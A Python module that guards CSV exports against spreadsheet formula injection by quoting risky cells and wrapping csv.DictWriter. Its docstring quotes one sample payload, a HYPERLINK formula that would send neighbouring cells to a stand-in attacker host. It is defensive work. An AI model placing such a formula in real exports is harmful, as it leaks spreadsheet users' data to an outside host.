"""CSV cells that are safe to open in a spreadsheet: the one place every CSV writer goes through.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula, and what we write is text others choose: a model's answer, a
prompt, a tag. ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` in an answer would send the neighbouring
cells away when clicked. OWASP's "CSV Injection" advice: prefix such a cell with a single quote, which the
spreadsheet shows as text. Numbers stay numbers (a negative cost is data, not a formula); the csv module
already quotes the separators and quotes inside a cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, TYPE_CHECKING, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is a string a spreadsheet would run; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {k: safe_cell(v) for k, v in row.items()}


if TYPE_CHECKING:
    _DictWriter = csv.DictWriter[str]  # generic to type checkers only: not subscriptable at run time (3.11)
else:
    _DictWriter = csv.DictWriter


class SafeDictWriter(_DictWriter):
    """``csv.DictWriter`` whose every row goes through ``safe_row``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow(safe_row(rowdict))

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def dict_writer(f: IO[str], fieldnames: Sequence[str], **kwargs: Any) -> SafeDictWriter:
    """A CSV writer for ``f`` (opened with ``newline=""``) with these columns; ``kwargs`` as csv.DictWriter's."""
    return SafeDictWriter(f, fieldnames, **kwargs)


def csv_text(rows: Sequence[Mapping[str, Any]]) -> str:
    """Rows as one CSV document, the first row's keys as the header (other keys ignored); "" for no rows."""
    if not rows:
        return ""
    buffer = io.StringIO()
    writer = dict_writer(buffer, list(rows[0]), extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()
